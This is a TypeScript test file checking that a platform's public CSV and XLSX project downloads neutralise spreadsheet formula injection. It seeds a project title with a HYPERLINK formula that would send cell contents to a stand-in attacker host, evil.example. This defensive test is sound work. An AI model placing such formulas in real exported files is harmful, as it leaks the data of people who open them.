// Public downloads are safe to open in a spreadsheet: a title that begins like a formula (OWASP CSV
// injection: =, +, -, @, tab, CR) is written as text, quoted and prefixed with a single quote.
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/http/app.ts';
import { seedDemo } from '../../src/services/demo-cycle.ts';
import { freshPlatform, testDbKind, type TestDb } from '../support/db.ts';
import type { TestPlatform } from '../support/db.ts';

let platform: TestPlatform;
let testDb: TestDb;
let app: ReturnType<typeof createApp>;

const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  ({ platform, testDb } = await freshPlatform());
  await seedDemo(platform);
  // Written behind the platform's back: whatever a title holds, the download must stay inert.
  await platform.db.transaction((trx) =>
    sql`UPDATE cycle_items SET data = jsonb_set(jsonb_set(data, '{project,title}', to_jsonb(${formula}::text)), '{project,latitude}', '-8.65'::jsonb)
        WHERE id = 'IN-PRJ001'`.execute(trx),
  );
  app = createApp(platform, { devToken: 'test-token' });
});
afterAll(async () => {
  await testDb.drop();
});

describe(`public CSV downloads on ${testDbKind}`, () => {
  it('neutralise a title that begins like a formula and keep negative numbers as numbers', async () => {
    const csv = await (await app.request('/downloads/projects.csv')).text();
    const line = csv.split('\r\n').find((l) => l.startsWith('"IN-PRJ001"'));
    expect(line).toBeDefined();
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
    // A negative latitude is a number, not a formula: written as it is.
    expect(line).toContain(',"-8.65",');
  });

  it('write the same title to XLSX as a text cell, never a formula', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await (await app.request('/downloads/projects.xlsx')).arrayBuffer());
    const sheet = book.getWorksheet('data');
    const cells: ExcelJS.Cell[] = [];
    sheet?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const title = cells.find((cell) => cell.value === formula);
    expect(title?.type).toBe(ExcelJS.ValueType.String);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  });
});
